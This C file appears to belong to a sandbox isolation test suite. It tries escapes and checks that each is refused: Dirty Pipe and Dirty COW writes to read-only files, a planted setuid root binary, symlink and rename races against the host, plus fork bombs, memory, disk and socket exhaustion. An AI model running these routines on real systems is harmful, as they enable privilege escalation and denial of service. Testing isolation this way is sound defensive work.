/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks that change or use up things: shared read-only files, devices, privileges of files,
 * memory, processes. */
#include "attacker.h"

#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

/* Through a pipe whose pages are the file's own (CVE-2022-0847): bytes put in behind must not land
 * in the file. */
static void write_by_pipe(int fd)
{
    int ends[2];
    static char page[4096];
    loff_t at = 0;
    if (pipe(ends) < 0)
        return;
    int size = fcntl(ends[1], F_SETPIPE_SZ, 65536);
    for (int done = 0; done < size; done += (int)sizeof page)
        (void)!write(ends[1], page, sizeof page); // every buffer gets the flag that once stayed
    for (int done = 0; done < size; done += (int)sizeof page)
        (void)!read(ends[0], page, sizeof page);
    (void)splice(fd, &at, ends[1], NULL, 1, 0);
    memset(page, 'E', sizeof page);
    (void)!write(ends[1], page, 64);
    (void)close(ends[0]);
    (void)close(ends[1]);
}

/* Into a file that is open for reading only. */
static void write_by_splice(int fd)
{
    int ends[2];
    char evil[] = "EEEEEEEE";
    loff_t at = 0;
    struct iovec part = {evil, sizeof evil};
    if (pipe(ends) < 0)
        return;
    (void)vmsplice(ends[1], &part, 1, SPLICE_F_GIFT);
    REFUSED(splice(ends[0], NULL, fd, &at, sizeof evil, 0), EBADF);
    REFUSED(write(fd, evil, sizeof evil), EBADF);
    REFUSED(pwrite(fd, evil, sizeof evil, 0), EBADF);
    REFUSED(ftruncate(fd, 0), EINVAL);
    REFUSED(fallocate(fd, 0, 0, 4096), EBADF);
    REFUSED(sendfile(fd, fd, NULL, 8), EBADF);
    (void)close(ends[0]);
    (void)close(ends[1]);
}

/* Private memory of the file, written by every way there is (CVE-2016-5195). */
static void write_by_memory(int fd)
{
    REFUSED(mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0,
            EACCES);
    char *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    char *own = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (shared == MAP_FAILED || own == MAP_FAILED) {
        complain("cannot map: %s", strerror(errno));
        return;
    }
    REFUSED(mprotect(shared, 4096, PROT_READ | PROT_WRITE), EACCES);
    int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    for (int i = 0; i < 50; i++) {
        (void)!pwrite(mem, "EEEEEEEE", 8, (off_t)(uintptr_t)own);
        (void)!pwrite(mem, "EEEEEEEE", 8, (off_t)(uintptr_t)shared);
        (void)madvise(own, 4096, MADV_DONTNEED);
        (void)madvise(shared, 4096, MADV_DONTNEED);
    }
    (void)close(mem);
    (void)munmap(shared, 4096);
    (void)munmap(own, 4096);
}

/* argv: a file to write to by its name, which goes to the box's own copy, if at all; "-" as first
 * word: it is read-only. */
static void storm(int argc, char **argv)
{
    bool is_read_only = argc > 0 && strcmp(argv[0], "-") == 0;
    for (int i = is_read_only; i < argc; i++) {
        int fd = open(argv[i], O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            complain("%s: %s", argv[i], strerror(errno));
            continue;
        }
        write_by_pipe(fd);
        write_by_splice(fd);
        write_by_memory(fd);
        if (is_read_only) {
            REFUSED_AS(open(argv[i], O_RDWR | O_CLOEXEC), EROFS, EACCES);
            REFUSED_AS(truncate(argv[i], 0), EROFS, EACCES);
            REFUSED(chmod(argv[i], 0777), EROFS);
            REFUSED(unlink(argv[i]), EROFS);
            REFUSED(setxattr(argv[i], "user.evil", "1", 1, 0), EROFS);
        } else {
            int copy = open(argv[i], O_RDWR | O_CLOEXEC);
            WORKS(pwrite(copy, "EEEEEEEE", 8, 0));
            char *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, copy, 0);
            if (memory != MAP_FAILED)
                memset(memory, 'E', 64);
            WORKS(ftruncate(copy, 100));
            WORKS(chmod(argv[i], 04777));
            WORKS(unlink(argv[i]));
            (void)close(copy);
        }
        (void)close(fd);
    }
}

/* argv: nodes planted in the image. */
static void devices(int argc, char **argv)
{
    for (int i = 0; i < argc; i++) {
        REFUSED(open(argv[i], O_RDONLY | O_CLOEXEC), EACCES);
        REFUSED(open(argv[i], O_RDWR | O_CLOEXEC), EACCES);
        // A copy in the upper layer is no better.
        (void)chmod(argv[i], 0666);
        REFUSED(open(argv[i], O_RDONLY | O_CLOEXEC), EACCES);
    }
    REFUSED(mknod("/tmp/disk", S_IFBLK | 0666, makedev(254, 0)), EPERM);
    REFUSED(mknod("/tmp/mem", S_IFCHR | 0666, makedev(1, 1)), EPERM);
    REFUSED(mknod("/dev/shm/null", S_IFCHR | 0666, makedev(1, 3)), EPERM);
    REFUSED(mknod("/dev/mem", S_IFCHR | 0666, makedev(1, 1)), EROFS);
    WORKS(mknod("/tmp/fifo", S_IFIFO | 0666, 0));
}

/* What only the machine's own root may write into a file. */
static void attributes(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    WORKS(mkdir("/tmp/dir", 0755));
    REFUSED(setxattr("/tmp/dir", "trusted.overlay.redirect", "/etc", 4, 0), EPERM);
    REFUSED(setxattr("/tmp/dir", "trusted.overlay.opaque", "y", 1, 0), EPERM);
    REFUSED(setxattr("/tmp/dir", "trusted.evil", "y", 1, 0), EPERM);
    if (getxattr("/tmp/dir", "trusted.overlay.opaque", NULL, 0) >= 0)
        complain("overlay's own attributes can be read");
}

/* Makes a program that runs as root for whoever starts it, should anybody outside be able to. */
static void plant_setuid(int argc, char **argv)
{
    int in = open("/attacker", O_RDONLY | O_CLOEXEC);
    (void)argc;
    (void)argv;
    WORKS(mkdir("/planted", 0777));
    WORKS(chmod("/planted", 0777));
    int out = open("/planted/suid", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    struct stat info;
    WORKS(fstat(in, &info));
    for (off_t at = 0; at < info.st_size;) {
        if (sendfile(out, in, &at, (size_t)(info.st_size - at)) <= 0)
            break;
    }
    WORKS(fchmod(out, 06755));
    (void)close(out);
}

/* A link in place of a directory that another launch or the file server will use. */
static void plant_links(int argc, char **argv)
{
    for (int i = 0; i + 1 < argc; i += 2) {
        (void)rmdir(argv[i]);
        (void)unlink(argv[i]);
        WORKS(symlink(argv[i + 1], argv[i]));
    }
}

/* Mount points cannot be taken away under a later launch. */
static void hide_places(int argc, char **argv)
{
    static const char *const points[] = {"/proc", "/dev"};
    (void)argc;
    (void)argv;
    for (size_t i = 0; i < COUNT(points); i++) {
        REFUSED(rmdir(points[i]), EBUSY);
        REFUSED(rename(points[i], "/away"), EBUSY);
        REFUSED(syscall(SYS_renameat2, AT_FDCWD, points[i], AT_FDCWD, "/tmp", RENAME_EXCHANGE),
                EBUSY);
    }
    WORKS(rename("/tmp", "/tmp-away"));
    WORKS(symlink("/etc", "/tmp"));
    WORKS(rename("/sys", "/sys-away"));
    WORKS(symlink("/proc/self/fd", "/sys"));
}

/* argv: a directory and a link in /workspace to exchange for ever. */
static void exchange(int argc, char **argv)
{
    if (argc < 2)
        return;
    (void)puts("exchanging");
    (void)fflush(stdout);
    for (;;)
        (void)syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE);
}

static void fork_bomb(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    for (;;) {
        if (fork() < 0)
            (void)sched_yield();
    }
}

/* Forks until it is refused; how often it worked. */
static void fork_many(int argc, char **argv)
{
    int count = 0;
    (void)argc;
    (void)argv;
    for (; count < 100000; count++) {
        pid_t child = fork();
        if (child == 0) {
            for (;;)
                (void)pause();
        }
        if (child < 0)
            break;
    }
    (void)printf("%d %d\n", count, errno);
    (void)fflush(stdout);
    (void)kill(0, SIGKILL);
}

/* argv: how. Takes memory until it is stopped; past 1 GiB it says so. */
static void eat_memory(int argc, char **argv)
{
    const char *how = argc > 0 ? argv[0] : "heap";
    static char chunk[1 << 20];
    int fd = -1;
    if (strcmp(how, "memfd") == 0)
        fd = (int)syscall(SYS_memfd_create, "eaten", 0);
    else if (strcmp(how, "shm") == 0)
        fd = open("/dev/shm/eaten", O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    memset(chunk, 'e', sizeof chunk);
    for (int i = 0; i < 1024; i++) {
        if (fd < 0) {
            char *more = malloc(sizeof chunk);
            if (more)
                memcpy(more, chunk, sizeof chunk);
        } else if (write(fd, chunk, sizeof chunk) < 0) {
            (void)printf("%s\n", strerror(errno));
            exit(3);
        }
    }
    complain("ate it all");
}

/* argv: how. Writes until the disk says no; prints how many MiB and why. */
static void fill_disk(int argc, char **argv)
{
    bool is_unlinked = argc > 0 && strcmp(argv[0], "deleted") == 0;
    bool has_holes = argc > 0 && strcmp(argv[0], "holes") == 0;
    static char chunk[1 << 20];
    int count = 0;
    int fd = open("/workspace/fill", O_RDWR | O_CREAT | O_CLOEXEC, 0600);
    for (size_t i = 0; i < sizeof chunk; i++)
        chunk[i] = (char)(i * 2654435761u >> 13);
    if (is_unlinked)
        WORKS(unlink("/workspace/fill"));
    for (; count < 1024; count++) {
        memcpy(chunk, &count, sizeof count);
        if (write(fd, chunk, sizeof chunk) != (ssize_t)sizeof chunk || fsync(fd) < 0)
            break;
        if (has_holes && count % 2)
            (void)fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE,
                            (off_t)count * (1 << 20), 1 << 20);
    }
    (void)printf("%d %s\n", count, strerror(errno));
    if (count == 1024)
        complain("nothing stopped it");
}

#define SOCKETS 256
#define SENT_MIB 192
#define PIECE 32000

/* Sends to sockets of its own that nobody reads. */
static void send_datagrams(void)
{
    static char piece[PIECE];
    static int sockets[SOCKETS];
    int out = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    int wanted = 1 << 30;
    size_t kept = 0;
    for (size_t i = 0; i < SOCKETS; i++) {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        socklen_t length = sizeof to;
        sockets[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        (void)setsockopt(sockets[i], SOL_SOCKET, SO_RCVBUF, &wanted, sizeof wanted);
        (void)bind(sockets[i], (struct sockaddr *)&to, sizeof to);
        (void)getsockname(sockets[i], (struct sockaddr *)&to, &length);
        for (size_t sent = 0; sent < ((size_t)SENT_MIB << 20) / SOCKETS; sent += PIECE)
            (void)sendto(out, piece, sizeof piece, 0, (struct sockaddr *)&to, sizeof to);
    }
    for (size_t i = 0; i < SOCKETS; i++) {
        for (ssize_t got; (got = recv(sockets[i], piece, sizeof piece, 0)) > 0;)
            kept += (size_t)got;
    }
    (void)printf("%zu\n", kept >> 20);
}

/* Writes to connections of its own that nobody reads. */
static void send_streams(void)
{
    static char piece[PIECE];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t length = sizeof to;
    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    size_t kept = 0;
    WORKS(bind(listener, (struct sockaddr *)&to, sizeof to));
    WORKS(listen(listener, SOCKETS));
    WORKS(getsockname(listener, (struct sockaddr *)&to, &length));
    for (size_t i = 0; i < SOCKETS && kept < (size_t)SENT_MIB << 20; i++) {
        int out = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        WORKS(connect(out, (struct sockaddr *)&to, sizeof to));
        WORKS(accept(listener, NULL, NULL));
        for (ssize_t sent; (sent = send(out, piece, sizeof piece, MSG_DONTWAIT)) > 0;)
            kept += (size_t)sent;
    }
    (void)printf("%zu\n", kept >> 20);
}

/* argv: datagrams or streams. Says how many MiB the kernel holds for it. */
static void fill_sockets(int argc, char **argv)
{
    if (argc > 0 && strcmp(argv[0], "streams") == 0)
        send_streams();
    else
        send_datagrams();
}

static void open_many(int argc, char **argv)
{
    int count = 3;
    (void)argc;
    (void)argv;
    while (open("/dev/null", O_RDONLY | O_CLOEXEC) >= 0)
        count++;
    (void)printf("%d\n", count);
    if (errno != EMFILE)
        complain("%s", strerror(errno));
}

/* A tree of processes hard to kill: deaf to TERM, stopped, in sessions of their own, orphaned,
 * holding the output. */
static void hydra(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    (void)signal(SIGTERM, SIG_IGN);
    (void)signal(SIGHUP, SIG_IGN);
    (void)signal(SIGINT, SIG_IGN);
    for (int i = 0; i < 6; i++) {
        if (fork() != 0)
            continue;
        if (i % 2)
            (void)setsid();
        if (fork() > 0)
            _exit(0); // orphaned
        if (i == 2)
            (void)raise(SIGSTOP);
        for (;;)
            (void)pause();
    }
    (void)puts("alive");
    (void)fflush(stdout);
    for (;;)
        (void)pause();
}

static void flood(int argc, char **argv)
{
    static char chunk[1 << 16];
    long mib = argc > 0 ? atol(argv[0]) : 64;
    memset(chunk, 'y', sizeof chunk);
    for (long i = 0; i < mib * 16; i++) {
        if (write(STDOUT_FILENO, chunk, sizeof chunk) < 0)
            complain("%s", strerror(errno));
    }
}

/* Special files for the file server to stumble over. */
static void plant_special(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    WORKS(mkfifo("/workspace/fifo", 0666));
    WORKS(symlink("/dev/zero", "/workspace/zero"));
    WORKS(symlink("/proc/kmsg", "/workspace/kmsg"));
    WORKS(symlink("/proc/1/environ", "/workspace/environ"));
    WORKS(symlink("/proc/self/fd/3", "/workspace/fd"));
    WORKS(symlink("/proc/1/root/etc", "/workspace/root"));
    int fd = open("/workspace/sparse", O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
    for (int bits = 62; bits > 30; bits--) {
        if (ftruncate(fd, (off_t)1 << bits) == 0)
            break;
    }
    (void)close(fd);
}

const struct attack write_attacks[] = {
    {"storm", storm},
    {"devices", devices},
    {"attributes", attributes},
    {"plant-setuid", plant_setuid},
    {"plant-links", plant_links},
    {"plant-special", plant_special},
    {"hide-places", hide_places},
    {"exchange", exchange},
    {"fork-bomb", fork_bomb},
    {"fork-many", fork_many},
    {"eat-memory", eat_memory},
    {"fill-disk", fill_disk},
    {"fill-sockets", fill_sockets},
    {"open-many", open_many},
    {"hydra", hydra},
    {"flood", flood},
    {0},
};
